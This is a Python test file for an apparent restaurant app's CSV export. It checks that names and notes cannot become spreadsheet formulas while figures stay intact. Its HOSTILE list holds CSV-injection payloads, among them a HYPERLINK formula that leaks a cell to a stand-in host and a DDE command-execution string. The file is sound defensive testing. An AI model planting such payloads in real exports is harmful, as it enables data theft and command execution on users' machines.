"""No name, note or sentence becomes a formula in anybody's spreadsheet, and figures stay figures."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from waiterapp.domain.spreadsheet import csv_text

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x.example/?"&A1;"Suppe")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\n=1+1",
    "Suppe\n=1+1",
    "Suppe\n+cmd|calc",
    "Suppe\n@SUM(A1)",
    "Suppe\n =1+1",
    "Suppe\n＝1+1",
    'a;"=HYPERLINK(1)"',
    "Suppe\r=1+1",
    "Suppe;=1+1",
    "Suppe; =1+1;@x",
    "Suppe\t=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "＝1+1",
    "＠x",
    "\u22121+1",
)


def cells(text: str, separator: str) -> list[str]:
    """Return every cell as a spreadsheet cuts them; in the careless way nothing that is quoted counts as quoted."""
    if separator == ",":
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    return [cell for line in text.replace("\r", "\n").split("\n") for cell in line.split(separator)]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_begins_a_formula_however_the_file_is_cut(name: str) -> None:
    text = csv_text(("dish", name), [(name, 1), ("Suppe", name)])
    for separator in (",", ";", "\t"):
        for cell in cells(text, separator):
            bare = cell.strip().lstrip('"\ufeff\u200b').strip()
            assert bare[:1] not in tuple("=+-@＝＋－＠\u2212|") or not bare, (separator, cell)


def test_a_row_stays_a_row_and_figures_stay_figures() -> None:
    rows = [
        ("Suppe\r\nheiß", Decimal("-3.50"), "-3.50", "+2", "-12,5 %", 4, None, "-"),
        ("Fisch, \"frisch\" - 'heute'", 1, "", "", "", 0, 0, 0),
    ]
    text = csv_text(("a", "b", "c", "d", "e", "f", "g", "h"), rows)
    found = list(csv.reader(io.StringIO(text)))
    assert len(found) == 3
    assert found[1][1:7] == ["-3.50", "-3.50", "+2", "-12,5 %", "4", ""]
    assert found[2][0] == "Fisch, \"frisch\" - 'heute'"
